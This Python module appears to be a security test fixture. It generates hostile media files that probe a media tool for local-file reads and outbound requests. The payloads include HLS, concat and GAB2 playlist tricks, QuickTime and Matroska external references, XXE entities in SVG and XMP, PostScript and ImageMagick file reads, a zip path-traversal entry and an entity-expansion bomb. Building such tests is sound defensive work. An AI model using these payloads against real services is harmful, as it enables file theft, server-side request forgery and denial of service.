"""Files that name other files or addresses, under the names of media: playlists, scripts, references, entities.

Each names the canary, a file that whoever runs a media tool could read, or an address that listens.
"""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
from collections.abc import Iterator
from pathlib import Path

from tests.hostile.built import box, chunk, element, ftyp, full, part, png, riff


def scripts(canary: Path, address: str) -> Iterator[tuple[str, bytes]]:
    """(file name, bytes)."""
    url = f"http://{address}/x.ts"
    for name, text in _texts(canary, address, url):
        yield name, text.encode()
    yield "zip.mov", _zipped(b"#EXTM3U\n" + url.encode())
    yield "gzip.mkv", gzip.compress(f"#EXTM3U\n{url}\n".encode())
    yield "playlist-behind-avi.avi", _subtitled(canary)
    yield "rtsptext.mov", b"rtsptext\r" + f"rtsp://{address}/stream".encode()
    yield "reference-movie.mov", _reference(url)
    yield "external-data.mov", _external(canary)
    yield "external-url.mp4", _external_url(url)
    yield "linked-segment.mkv", _linked(canary)
    yield "entity-in-xmp.png", png(8, 8, _xmp(canary), pixels=bytes(25 * 8))
    yield (
        "icc-entity.png",
        png(8, 8, chunk(b"tEXt", b"Raw profile type exif\0" + str(canary).encode()), pixels=bytes(200)),
    )


def _texts(canary: Path, address: str, url: str) -> Iterator[tuple[str, str]]:
    hls = "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n"
    end = "#EXT-X-ENDLIST\n"
    yield "hls-file.mp4", f"{hls}#EXTINF:10,\nfile://{canary}\n{end}"
    yield "hls-http.mov", f"{hls}#EXTINF:10,\n{url}\n{end}"
    yield "hls-key.mkv", f'{hls}#EXT-X-KEY:METHOD=AES-128,URI="file://{canary}"\n#EXTINF:10,\n{url}\n{end}'
    yield "hls-map.mp4", f'{hls}#EXT-X-MAP:URI="{url}"\n#EXTINF:10,\nfile://{canary}\n{end}'
    yield "hls-concat.ts", f"{hls}#EXTINF:10,\nconcat:{url}|file://{canary}\n{end}"
    yield "hls-subfile.ts", f"{hls}#EXTINF:10,\nsubfile,,start,0,end,64,,:{canary}\n{end}"
    yield "hls-data.ts", f"{hls}#EXTINF:10,\ndata:text/plain;base64,AAAA\n{end}"
    yield "hls-master.mp4", f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://{address}/master.m3u8\n"
    yield "ffconcat.mp4", f"ffconcat version 1.0\nfile '{canary}'\nduration 5\n"
    yield "concat.mov", f"file '{canary}'\nfile '{url}'\n"
    yield (
        "session.mp4",
        (
            "v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\n"
            f"m=video {address.rpartition(':')[2]} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n"
        ),
    )
    yield (
        "dash.mp4",
        (
            '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S">'
            f'<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>{url}</BaseURL>'
            "</Representation></AdaptationSet></Period></MPD>"
        ),
    )
    yield "smil.mov", f'<smil><body><video src="{url}"/></body></smil>'
    yield "asx.wmv", f'<ASX version="3.0"><Entry><Ref href="{url}"/></Entry></ASX>'
    yield "reference.asf", f"[Reference]\r\nRef1={url}\r\nRef2=file://{canary}\r\n"
    yield "pls.mp3", f"[playlist]\nNumberOfEntries=1\nFile1={url}\n"
    yield "redirect.mp4", f"rtsp://{address}/stream\n"
    yield (
        "drawing.png",
        (
            f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://{canary}">]>'
            f'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text><image href="{url}"/></svg>'
        ),
    )
    yield (
        "postscript.jpg",
        f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n({canary}) (r) file 99 string readstring\n",
    )
    yield "magick.png", f"push graphic-context\nimage over 0,0 0,0 '{url}'\npop graphic-context\n"
    yield "label.gif", f'<?xml version="1.0"?><image><read filename="{canary}"/><write filename="/tmp/x"/></image>'
    yield "styled.mp4", f"[Script Info]\n[Events]\nDialogue: 0,0:00:01.00,0:00:02.00,,,,,,{canary}\n"
    yield "program.mp4", f"#!/bin/sh\ncat {canary}\n"
    yield "page.webm", f'<!DOCTYPE html><video src="file://{canary}"></video>'
    yield (
        "bomb-of-entities.mov",
        (
            '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "ha">'
            + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
            + "]><a>&a9;</a>"
        ),
    )


def _zipped(data: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("../../../../tmp/escaped.m3u8", data)
    return file.getvalue()


def _subtitled(canary: Path) -> bytes:
    """AVI whose text stream is a playlist: FFmpeg hands a GAB2 chunk to whichever demuxer likes it best."""
    playlist = f"#EXTM3U\n#EXTINF:1,\nfile://{canary}\n#EXT-X-ENDLIST\n".encode()
    gab2 = b"GAB2\0\2\0" + struct.pack("<I", 2) + b"a\0" + b"\4\0" + struct.pack("<I", len(playlist)) + playlist
    header = b"txts\0\0\0\0" + struct.pack("<12I", 0, 0, 0, 1, 1, 0, 1, len(gab2), 0, 0, 0, 0)
    main = struct.pack("<14I", 40000, 0, 0, 0, 1, 0, 1, 0, 16, 16, 0, 0, 0, 0)

    stream = part(b"LIST", b"strl" + part(b"strh", header) + part(b"strf", bytes(40)))
    return riff(
        b"AVI ", part(b"LIST", b"hdrl" + part(b"avih", main) + stream), part(b"LIST", b"movi" + part(b"00tx", gab2))
    )


def _reference(url: str) -> bytes:
    """A QuickTime reference movie: nothing but the address of another one."""
    link = full(b"rdrf", b"url ", struct.pack(">I", len(url) + 1), url.encode() + b"\0")
    return ftyp(b"qt  ") + box(b"moov", box(b"rmra", box(b"rmda", link)))


def _external(canary: Path) -> bytes:
    """A movie whose samples lie in another file, by an alias record with that file's path."""
    path = str(canary).encode()
    tail = struct.pack(">HH", 2, len(path)) + path + b"\0" * (len(path) % 2) + struct.pack(">HH", 0xFFFF, 0)
    alias = bytes(150) + tail
    return _movie(full(b"alis", alias, flags=0))


def _external_url(url: str) -> bytes:
    return _movie(full(b"url ", url.encode() + b"\0", flags=0))


def _movie(reference: bytes) -> bytes:
    """One track of one PCM sound whose data reference is `reference`."""
    sound = bytes(6) + struct.pack(">H", 1) + bytes(8) + struct.pack(">HHHHI", 1, 16, 0, 0, 8000 << 16)
    table = box(
        b"stbl",
        full(b"stsd", struct.pack(">I", 1), box(b"sowt", sound)),
        full(b"stts", struct.pack(">III", 1, 64, 1)),
        full(b"stsc", struct.pack(">IIII", 1, 1, 64, 1)),
        full(b"stsz", struct.pack(">II", 2, 64)),
        full(b"stco", struct.pack(">II", 1, 0)),
    )
    where = box(b"dinf", full(b"dref", struct.pack(">I", 1), reference))
    media = box(
        b"mdia",
        full(b"mdhd", struct.pack(">IIIIHH", 0, 0, 8000, 64, 0x55C4, 0)),
        full(b"hdlr", b"mhlr", b"soun", bytes(12), b"\0"),
        box(b"minf", full(b"smhd", bytes(4)), where, table),
    )
    matrix = struct.pack(">9I", 1 << 16, 0, 0, 0, 1 << 16, 0, 0, 0, 1 << 30)
    track = full(b"tkhd", struct.pack(">IIIII", 0, 0, 1, 0, 64), bytes(16), matrix, bytes(8), flags=7)
    movie = full(
        b"mvhd", struct.pack(">IIIIIH", 0, 0, 8000, 64, 1 << 16, 256), bytes(10), matrix, bytes(24), b"\0\0\0\2"
    )
    return ftyp(b"qt  ") + box(b"moov", movie, box(b"trak", track, media))


def _linked(canary: Path) -> bytes:
    """Matroska whose segment says that others, by name, come before and after it."""
    name = str(canary).encode()
    info = element(
        b"\x15\x49\xa9\x66",
        element(b"\x73\xa4", bytes(16)) + element(b"\x3c\x83\xab", name) + element(b"\x3e\x83\xbb", name),
    )
    head = element(b"\x1a\x45\xdf\xa3", element(b"\x42\x82", b"matroska"))
    return head + element(b"\x18\x53\x80\x67", info)


def _xmp(canary: Path) -> bytes:
    xml = (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://{canary}">]><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc='
        '"http://purl.org/dc/elements/1.1/"><dc:title>&e;</dc:title></rdf:Description></rdf:RDF></x:xmpmeta>'
    )
    return chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + xml.encode())
